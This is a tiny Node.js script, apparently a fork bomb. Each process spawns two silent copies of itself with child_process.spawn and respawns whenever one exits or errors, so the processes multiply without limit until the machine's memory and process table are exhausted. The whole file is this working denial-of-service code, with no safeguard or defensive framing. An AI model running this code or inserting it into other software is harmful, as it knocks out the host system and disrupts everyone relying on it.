// Two of itself, each of which does the same, and again when one ends.
const { spawn } = require('child_process');
function again() {
  const child = spawn(process.execPath, [__filename], { stdio: 'ignore' });
  child.on('error', () => setImmediate(again));
  child.on('exit', again);
}
again();
again();
